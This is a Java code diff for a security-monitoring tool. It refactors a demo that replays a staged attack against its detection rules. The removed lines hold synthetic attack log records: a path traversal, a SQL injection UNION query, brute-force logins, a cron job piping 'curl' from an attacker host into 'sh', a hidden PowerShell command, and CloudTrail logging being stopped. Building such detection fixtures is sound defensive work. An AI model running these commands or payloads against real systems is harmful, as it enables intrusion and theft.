@@ -1,5 +1,6 @@
 package dev.vigil.server.cli;
 
+import dev.vigil.server.governance.DemoAttack;
 import java.io.IOException;
 import java.io.OutputStream;
 import java.io.PrintStream;
@@ -61,172 +62,56 @@ final class DemoStory {
         Instant started = Instant.now().truncatedTo(ChronoUnit.SECONDS).minusSeconds(1);
         setUp();
         Instant t = Instant.now().minus(20, ChronoUnit.MINUTES).truncatedTo(ChronoUnit.SECONDS);
-
-        out.println("  1. reconnaissance: a vulnerability scanner and path traversal against shop.example");
-        List<String> web = new ArrayList<>();
-        web.add(access(t, "GET", "/", "", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"));
-        web.add(access(t.plusSeconds(2), "GET", "/.git/config", "", 404, "Mozilla/5.00 (Nikto/2.5.0)"));
-        web.add(access(t.plusSeconds(5), "GET", "/download", "file=../../../../etc/passwd", 200, "curl/8.5.0"));
-        out.println("  2. initial access: SQL injection in the product search");
-        web.add(access(
-                t.plusSeconds(40),
-                "GET",
-                "/products",
-                "q=1%27+UNION+SELECT+username,password+FROM+users--",
-                200,
-                "sqlmap/1.8.2#stable (https://sqlmap.org)"));
-        out.println("  3. credential access: brute force on the shop's admin login");
-        for (int i = 0; i < 12; i++) {
-            web.add(access(t.plusSeconds(60 + i * 3), "POST", "/admin/login", "", 401, "python-requests/2.31"));
+        // the story is data shared with the replay exercise (DemoAttack): send it source by source, in order
+        String current = null;
+        List<String> pending = new ArrayList<>();
+        for (DemoAttack.Item item : DemoAttack.render(t)) {
+            if (item.isStep()) {
+                out.println("  " + item.step());
+                continue;
+            }
+            if (current != null && !current.equals(item.source())) {
+                send(current, pending);
+                pending = new ArrayList<>();
+            }
+            current = item.source();
+            pending.add(item.raw());
         }
-        ingest("shop-web", web);
-
-        out.println("  4. SSH brute force on web-01, then a root login (syslog, TCP)");
-        List<String> syslog = new ArrayList<>();
-        Instant s = t.plusSeconds(120);
-        for (int i = 0; i < 8; i++) {
-            syslog.add(rfc5424(
-                    s.plusSeconds(i * 4),
-                    10,
-                    5,
-                    "web-01",
-                    "sshd",
-                    2200 + i,
-                    "Failed password for root from " + ATTACKER + " port " + (40000 + i) + " ssh2"));
+        if (current != null) {
+            send(current, pending);
         }
-        syslog.add(rfc5424(
-                s.plusSeconds(40),
-                10,
-                6,
-                "web-01",
-                "sshd",
-                2300,
-                "Accepted password for root from " + ATTACKER + " port 40100 ssh2"));
-        out.println("  5. privilege escalation and persistence on web-01: sudo shell, backdoor user, cron job");
-        syslog.add(rfc5424(
-                s.plusSeconds(70),
-                10,
-                5,
-                "web-01",
-                "sudo",
-                2310,
-                "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"));
-        syslog.add(
-                rfc5424(
-                        s.plusSeconds(90),
-                        10,
-                        6,
-                        "web-01",
-                        "useradd",
-                        2320,
-                        "new user: name=sysupdate, UID=1001, GID=1001, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1"));
-        syslog.add(rfc5424(s.plusSeconds(100), 9, 6, "web-01", "crontab", 2330, "(root) REPLACE (root)"));
-        syslog.add(rfc5424(
-                s.plusSeconds(160),
-                9,
-                6,
-                "web-01",
-                "CRON",
-                2340,
-                "(root) CMD (curl -fsSL http://" + ATTACKER + "/u.sh | sh)"));
-        sendSyslog(syslog);
-        // syslog travels on its own connection: let it reach detection before the later cloud events, so the
-        // correlation watermark (latest event time minus 30 s) does not pass the SSH brute force before it arrives
-        awaitDetected("linux-servers", syslog.size(), 4);
-
-        out.println("  6. cloud: console login without MFA, new access key, AdministratorAccess, CloudTrail stopped");
-        Instant c = t.plusSeconds(400);
-        List<String> cloud = new ArrayList<>();
-        cloud.add(cloudtrail(
-                c,
-                "signin.amazonaws.com",
-                "ConsoleLogin",
-                Map.of(),
-                Map.of(
-                        "additionalEventData",
-                        Map.of("MFAUsed", "No"),
-                        "responseElements",
-                        Map.of("ConsoleLogin", "Success"))));
-        cloud.add(cloudtrail(
-                c.plusSeconds(30), "iam.amazonaws.com", "CreateAccessKey", Map.of("userName", "deploy-bot"), Map.of()));
-        cloud.add(cloudtrail(
-                c.plusSeconds(45),
-                "iam.amazonaws.com",
-                "AttachUserPolicy",
-                Map.of("userName", "deploy-bot", "policyArn", "arn:aws:iam::aws:policy/AdministratorAccess"),
-                Map.of()));
-        cloud.add(cloudtrail(
-                c.plusSeconds(60),
-                "cloudtrail.amazonaws.com",
-                "StopLogging",
-                Map.of("name", "arn:aws:cloudtrail:eu-west-1:123456789012:trail/org-trail"),
-                Map.of()));
-        ingest("shop-cloud", cloud);
-
-        out.println("  7. Windows: password guessing, a new admin account, encoded PowerShell, Security log cleared");
-        Instant w = t.plusSeconds(600);
-        List<String> security = new ArrayList<>();
-        for (int i = 0; i < 12; i++) {
-            security.add(windows(
-                    w.plusSeconds(i * 5),
-                    4625,
-                    Map.of(
-                            "TargetUserName",
-                            "Administrator",
-                            "IpAddress",
-                            ATTACKER,
-                            "LogonType",
-                            3,
-                            "Status",
-                            "0xc000006d")));
-        }
-        security.add(windows(
-                w.plusSeconds(90), 4720, Map.of("TargetUserName", "svc-update", "SubjectUserName", "Administrator")));
-        security.add(windows(
-                w.plusSeconds(95),
-                4732,
-                Map.of(
-                        "TargetUserName",
-                        "Administrators",
-                        "MemberName",
-                        "CN=svc-update,CN=Users,DC=corp,DC=example",
-                        "SubjectUserName",
-                        "Administrator")));
-        security.add(windows(w.plusSeconds(200), 1102, Map.of("SubjectUserName", "Administrator")));
-        ingest("corp-windows", security);
-        ingest(
-                "corp-endpoints",
-                List.of(json(Map.of(
-                        "@timestamp", w.plusSeconds(150).toString(),
-                        "EventID", 1,
-                        "Computer", "WS-042.corp.example",
-                        "User", "CORP\\jdoe",
-                        "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                        "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                        "CommandLine",
-                                "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="))));
 
         return awaitAlerts(started);
     }
 
+    private void send(String source, List<String> records) throws IOException, InterruptedException {
+        if (!SYSLOG_SOURCE.equals(source)) {
+            ingest(source, records);
+            return;
+        }
+        sendSyslog(records);
+        // syslog travels on its own connection: let it reach detection before the later cloud events, so the
+        // correlation watermark (latest event time minus 30 s) does not pass the SSH brute force before it arrives
+        awaitDetected(SYSLOG_SOURCE, records.size(), 4);
+    }
+
+    /** The story's one source sent as RFC 5424 syslog over TCP; the others go to the HTTP NDJSON intake. */
+    private static final String SYSLOG_SOURCE = "linux-servers";
+
     private void setUp() throws IOException {
-        source("shop-web", "http", "json", Map.of("category", "webserver", "product", "nginx"), "shop", List.of());
-        source("shop-cloud", "http", "json", Map.of("product", "aws", "service", "cloudtrail"), "shop", List.of());
-        source("linux-servers", "syslog", "syslog", Map.of("product", "linux"), "shop", List.of("hostname=web-*"));
-        source(
-                "corp-windows",
-                "http",
-                "json",
-                Map.of("product", "windows", "service", "security"),
-                "corp-it",
-                List.of());
-        source(
-                "corp-endpoints",
-                "http",
-                "json",
-                Map.of("product", "windows", "category", "process_creation"),
-                "corp-it",
-                List.of());
+        for (dev.vigil.server.ingest.LogSource d : DemoAttack.SOURCES) {
+            Map<String, String> logsource = new LinkedHashMap<>();
+            if (d.product() != null) {
+                logsource.put("product", d.product());
+            }
+            if (d.category() != null) {
+                logsource.put("category", d.category());
+            }
+            if (d.service() != null) {
+                logsource.put("service", d.service());
+            }
+            source(d.name(), d.intake().id(), d.parser().kind().id(), logsource, d.application(), d.match());
+        }
         application(
                 "shop",
                 "The web shop (shop.example) and its AWS account",
@@ -360,71 +245,5 @@ final class DemoStory {
             }
         }
         return new Result(events, Math.max(last, 0), byLevel, byRule, flags);
-    }
-
-    private static String access(Instant at, String method, String path, String query, int status, String agent) {
-        Map<String, Object> m = new LinkedHashMap<>();
-        m.put("@timestamp", at.toString());
-        m.put("s-computername", "web-01");
-        m.put("cs-host", "shop.example");
-        m.put("c-ip", ATTACKER);
-        m.put("cs-method", method);
-        m.put("cs-uri-stem", path);
-        m.put("cs-uri-query", query);
-        m.put("sc-status", status);
-        m.put("cs-user-agent", agent);
-        return json(m);
-    }
-
-    private static String cloudtrail(
-            Instant at, String eventSource, String eventName, Map<String, Object> request, Map<String, Object> extra) {
-        Map<String, Object> m = new LinkedHashMap<>();
-        m.put("eventVersion", "1.09");
-        m.put("eventTime", at.toString());
-        m.put("eventSource", eventSource);
-        m.put("eventName", eventName);
-        m.put("awsRegion", "eu-west-1");
-        m.put("sourceIPAddress", ATTACKER);
-        m.put("userAgent", "aws-cli/2.15.0");
-        m.put(
-                "userIdentity",
-                Map.of(
-                        "type",
-                        "IAMUser",
-                        "userName",
-                        "deploy-bot",
-                        "accountId",
-                        "123456789012",
-                        "arn",
-                        "arn:aws:iam::123456789012:user/deploy-bot"));
-        m.put("recipientAccountId", "123456789012");
-        if (!request.isEmpty()) {
-            m.put("requestParameters", request);
-        }
-        m.putAll(extra);
-        return json(m);
-    }
-
-    private static String windows(Instant at, int eventId, Map<String, Object> data) {
-        Map<String, Object> m = new LinkedHashMap<>();
-        m.put("@timestamp", at.toString());
-        m.put("EventID", eventId);
-        m.put("Channel", "Security");
-        // 1102 (the audit log was cleared) is written by the event log service itself, every other Security event by
-        // the auditing provider
-        m.put("Provider_Name", eventId == 1102 ? "Microsoft-Windows-Eventlog" : "Microsoft-Windows-Security-Auditing");
-        m.put("Computer", "DC01.corp.example");
-        m.putAll(data);
-        return json(m);
-    }
-
-    /** An RFC 5424 message: {@code <PRI>1 TIMESTAMP HOST APP PROCID - - MSG}. */
-    private static String rfc5424(
-            Instant at, int facility, int severity, String host, String app, int pid, String msg) {
-        return "<" + (facility * 8 + severity) + ">1 " + at + " " + host + " " + app + " " + pid + " - - " + msg;
-    }
-
-    private static String json(Map<String, Object> m) {
-        return JSON.writeValueAsString(m);
     }
 }
